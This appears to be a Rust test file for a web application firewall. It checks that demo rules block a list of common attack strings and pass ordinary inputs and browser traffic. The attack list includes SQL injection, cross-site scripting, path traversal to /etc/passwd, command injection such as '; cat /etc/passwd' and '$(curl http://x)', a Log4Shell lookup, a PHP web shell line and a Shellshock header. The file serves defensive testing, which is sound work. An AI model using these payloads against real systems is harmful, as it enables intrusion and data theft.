//! The demo rules catch ordinary attacks and let ordinary traffic pass.

mod common;

use cnx_waf::engine::Verdict;
use common::{Gateway, demo};

const FORM: &str = "application/x-www-form-urlencoded";

/// Attacks as the value of one argument.
const ATTACKS: &[&str] = &[
    "' OR 1=1 --",
    "1 or 1=1",
    "admin'--",
    "1' AND '1'='1",
    "1 UNION/**/SELECT user,password FROM users",
    "x'; DROP TABLE users;--",
    "1;WAITFOR DELAY '0:0:5'",
    "1 AND SLEEP(5)",
    "(select count(*) from information_schema.tables)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "<svg/onload=confirm(1)>",
    "java\tscript:alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<a href=\"javascript:void(0)\">",
    "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "/etc/passwd",
    "php://filter/convert.base64-encode/resource=index",
    "http://169.254.169.254/latest/meta-data/",
    "; cat /etc/passwd",
    "| id",
    "`whoami`",
    "$(curl http://x)",
    "127.0.0.1 && ping -c 1 x",
    "a;/usr/bin/id",
    "${jndi:ldap://x/a}",
    "<?php system($_GET['c']);",
];

/// Ordinary values.
const BENIGN: &[&str] = &[
    "hello world",
    "O'Brien",
    "rock 'n' roll",
    "Tom & Jerry",
    "C# and F#",
    "50% off, or more!",
    "please select an item from the list",
    "the union of two sets",
    "a < b and b > c",
    "1 + 1 = 2",
    "alice@example.com",
    "https://example.com/path/file.html?x=1&y=2#top",
    "12 Main Street; ring twice",
    "I said \"no\" -- and left",
    "price: 3,50 (incl. tax)",
    "2026-11-21T10:00:00Z",
    "cat pictures",
    "order by phone or by mail",
    "drop me a line",
    "a/b/c.txt",
    "über naïve 日本語 😀",
    "SGVsbG8gd29ybGQ=",
    "{\"a\":1}",
    "id",
    "where is it?",
    "script writer",
    "my onion = good",
    "like it or not",
];

fn encoded(value: &str) -> String {
    value
        .bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02x}")
            }
        })
        .collect()
}

#[test]
fn attacks_are_refused_wherever_they_stand() {
    let mut g = Gateway::new(&demo());
    for attack in ATTACKS {
        let e = encoded(attack);
        for (place, outcome) in [
            ("query", g.get(&format!("/search?q={e}"), &[])),
            ("body", g.post(FORM, format!("a=1&q={e}").as_bytes())),
            (
                "JSON",
                g.post(
                    "application/json",
                    format!("{{\"q\":{:?}}}", attack).replace("\\'", "'").as_bytes(),
                ),
            ),
        ] {
            assert_eq!(
                outcome.verdict,
                Verdict::Block,
                "{attack} in the {place}: {:?}",
                g.ids()
            );
            assert!(outcome.score >= 5);
        }
    }
    for target in [
        "/../../etc/passwd",
        "/.env",
        "/.git/config",
        "/a%00b",
        "/id/1%20union%20select%20user%20from%20password",
    ] {
        assert_eq!(g.get(target, &[]).verdict, Verdict::Block, "{target}");
    }
    assert_eq!(g.get("/", &[("user-agent", "sqlmap/1.7")]).verdict, Verdict::Block);
    assert_eq!(
        g.get("/", &[("user-agent", "() { :; }; /bin/bash -c id")]).verdict,
        Verdict::Block
    );
    assert_eq!(
        g.get("/", &[("cookie", "a=<script>alert(1)</script>")]).verdict,
        Verdict::Block
    );
    assert_eq!(g.post("application/json", b"{\"a\":").verdict, Verdict::Block);
    assert_eq!(
        g.post("application/json", br#"{"user":{"$ne":null}}"#).verdict,
        Verdict::Block
    );
}

#[test]
fn ordinary_traffic_passes() {
    let mut g = Gateway::new(&demo());
    for value in BENIGN {
        let e = encoded(value);
        for outcome in [
            g.get(&format!("/search?q={e}"), &[]),
            g.post(FORM, format!("a=1&q={e}").as_bytes()),
        ] {
            assert_eq!(outcome.verdict, Verdict::Pass, "{value}: {:?}", g.ids());
        }
    }
    let browser = [
        (
            "user-agent",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
        ),
        (
            "accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8",
        ),
        ("accept-language", "en-US,en;q=0.9"),
        ("referer", "https://example.com/search?q=running+shoes&page=2"),
        (
            "cookie",
            "sid=8f14e45fceea167a5a36dedd4bea2543; _ga=GA1.2.123.456; prefs=%7B%22a%22%3A1%7D",
        ),
    ];
    assert_eq!(
        g.get("/catalog/shoes?page=3&sort=price", &browser).verdict,
        Verdict::Pass,
        "{:?}",
        g.ids()
    );
    let multipart = "--B\r\nContent-Disposition: form-data; name=\"t\"\r\n\r\nhello\r\n--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"me.png\"\r\nContent-Type: image/png\r\n\r\n\u{89}PNG\r\n--B--\r\n";
    assert_eq!(
        g.post("multipart/form-data; boundary=B", multipart.as_bytes()).verdict,
        Verdict::Pass,
        "{:?}",
        g.ids()
    );
    assert_eq!(
        g.post("text/xml", b"<order id=\"5\"><name>Alice &amp; Bob</name></order>")
            .verdict,
        Verdict::Pass,
        "{:?}",
        g.ids()
    );
}

/// Measured on the data set of parameter values, as `/?id=`; the floors are far below what was measured, since the rules
/// are not made for this set.
#[test]
fn a_public_data_set_is_told_apart() {
    let Some(text) = common::data("waf-httpparams/payloads.csv") else {
        assert_ne!(
            std::env::var("CI").as_deref(),
            Ok("true"),
            "../shared/data/waf-httpparams is missing"
        );
        return;
    };
    let mut g = Gateway::new(&demo());
    let mut counts = std::collections::BTreeMap::<String, (u32, u32)>::new();
    for row in common::csv(&text).into_iter().skip(1).filter(|r| r.len() >= 4) {
        let kind = row[row.len() - 2].clone();
        let hit = g.get(&format!("/?id={}", encoded(&row[0])), &[]).verdict == Verdict::Block;
        let c = counts.entry(kind.clone()).or_default();
        c.0 += 1;
        c.1 += u32::from(hit);
        if std::env::var("SHOW").is_ok_and(|s| s == kind) && hit == (kind == "norm") {
            println!("{kind} {hit} {:?} {}", g.ids(), row[0]);
        }
    }
    println!("waf-httpparams (total, blocked): {counts:?}");
    let rate = |kind: &str| counts.get(kind).map_or(0.0, |(n, hit)| f64::from(*hit) / f64::from(*n));
    assert!(rate("norm") < 0.01, "false positives: {counts:?}");
    for kind in ["sqli", "xss", "path-traversal", "cmdi"] {
        assert!(rate(kind) > 0.75, "{kind}: {counts:?}");
    }
}
